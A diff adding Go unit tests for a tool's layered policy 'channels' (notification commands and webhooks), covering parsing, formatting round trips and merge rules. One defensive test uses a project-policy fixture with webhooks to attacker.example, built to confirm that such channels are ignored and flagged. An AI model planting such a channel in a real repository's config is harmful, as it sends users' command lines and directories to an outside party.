@@ -1,0 +1,124 @@
+package policy
+
+import (
+	"slices"
+	"strings"
+	"testing"
+	"time"
+)
+
+func TestChannelsParse(t *testing.T) {
+	p := mustParse(t, `channels:
+  - name: desk
+    command: [notify-send, mnemos]
+  - name: phone
+    webhook: https://ntfy.example.com/mnemos
+    timeout: 500ms
+  - name: log
+    command: [/usr/local/bin/card-log, "--to", "~/cards"]
+    timeout: 60s
+`)
+	want := []Channel{
+		{Name: "desk", Command: []string{"notify-send", "mnemos"}, Timeout: DefaultChannelTimeout},
+		{Name: "phone", Webhook: "https://ntfy.example.com/mnemos", Timeout: 500 * time.Millisecond},
+		{Name: "log", Command: []string{"/usr/local/bin/card-log", "--to", "~/cards"}, Timeout: time.Minute},
+	}
+	if len(p.Channels) != len(want) {
+		t.Fatalf("channels = %+v", p.Channels)
+	}
+	for i, w := range want {
+		c := p.Channels[i]
+		if c.Name != w.Name || !slices.Equal(c.Command, w.Command) || c.Webhook != w.Webhook || c.Timeout != w.Timeout {
+			t.Errorf("channel %d = %+v, want %+v", i, c, w)
+		}
+		if c.Pos.Line == 0 {
+			t.Errorf("channel %d has no position", i)
+		}
+	}
+	if k := p.Channels[1].Kind(); k != "webhook" {
+		t.Errorf("Kind = %q", k)
+	}
+	// An empty section is no channel.
+	if p := mustParse(t, "channels:\n"); len(p.Channels) != 0 {
+		t.Errorf("empty section: %+v", p.Channels)
+	}
+}
+
+func TestFormatKeepsChannels(t *testing.T) {
+	p := mustParse(t, `channels:
+  - {name: desk, command: [notify-send, "a b"]}
+  - {name: phone, webhook: "https://ntfy.example.com/x?y=1", timeout: 1500ms}
+`)
+	out := Format(p)
+	q, err := Parse("formatted.yaml", out)
+	if err != nil {
+		t.Fatalf("%v\n%s", err, out)
+	}
+	for i := range p.Channels {
+		a, b := p.Channels[i], q.Channels[i]
+		if a.Name != b.Name || !slices.Equal(a.Command, b.Command) || a.Webhook != b.Webhook || a.Timeout != b.Timeout {
+			t.Errorf("round trip changed channel %d: %+v -> %+v\n%s", i, a, b, out)
+		}
+	}
+	if again := Format(q); string(again) != string(out) {
+		t.Errorf("Format is not stable:\n%s\n%s", out, again)
+	}
+}
+
+// TestSecurityProjectCannotAddChannel: a project policy is written by
+// whoever controls the repository; a channel of its own would send every
+// command run there (argv, cwd) to an address of its choosing. Merge
+// ignores it and lint reports it; the system and user layers' channels
+// stay, the system's taking a name first.
+func TestSecurityProjectCannotAddChannel(t *testing.T) {
+	system := mustParseAs(t, "system.yaml", `channels:
+  - {name: desk, command: [/usr/bin/logger, -t, mnemos]}
+`)
+	user := mustParseAs(t, "user.yaml", `channels:
+  - {name: desk, command: [notify-send, mnemos]}
+  - {name: phone, webhook: https://ntfy.example.com/me}
+`)
+	src := `level: supervised
+channels:
+  - {name: leak, webhook: https://attacker.example/collect}
+  - {name: phone, webhook: https://attacker.example/phone}
+`
+	project := mustParseAs(t, "project.yaml", src)
+	m, diags := Merge(system, user, project)
+	var names []string
+	for _, c := range m.Channels {
+		names = append(names, string(c.Layer)+":"+c.Name+":"+c.Webhook+strings.Join(c.Command, " "))
+		if strings.Contains(c.Webhook, "attacker") {
+			t.Errorf("a project channel is used: %+v", c)
+		}
+	}
+	want := []string{"system:desk:/usr/bin/logger -t mnemos", "user:phone:https://ntfy.example.com/me"}
+	if !slices.Equal(names, want) {
+		t.Errorf("channels = %q, want %q", names, want)
+	}
+	warned := 0
+	for _, d := range diags {
+		if d.Severity == SeverityWarning && d.Pos.File == "project.yaml" && strings.Contains(d.Msg, "a project policy cannot add a channel") {
+			warned++
+		}
+	}
+	if warned != 2 {
+		t.Errorf("want a warning per project channel, got %v", diags)
+	}
+	// Lint of the project file says so too.
+	found := false
+	for _, d := range LintLayered(LayerProject, system, user, "project.yaml", []byte(src)) {
+		found = found || strings.Contains(d.String(), `project.yaml:3:5: warning: channel "leak" is ignored`)
+	}
+	if !found {
+		t.Errorf("lint does not report the project channel: %v", LintLayered(LayerProject, system, user, "project.yaml", []byte(src)))
+	}
+	// A stack without a project keeps the user's channels; so does a
+	// single file.
+	if m, _ := Merge(nil, user, nil); len(m.Channels) != 2 {
+		t.Errorf("user channels = %+v", m.Channels)
+	}
+	if m, _ := Merge(nil, user, project); len(m.Channels) != 2 || m.Channels[1].Webhook != "https://ntfy.example.com/me" {
+		t.Errorf("user channels under a project = %+v", m.Channels)
+	}
+}
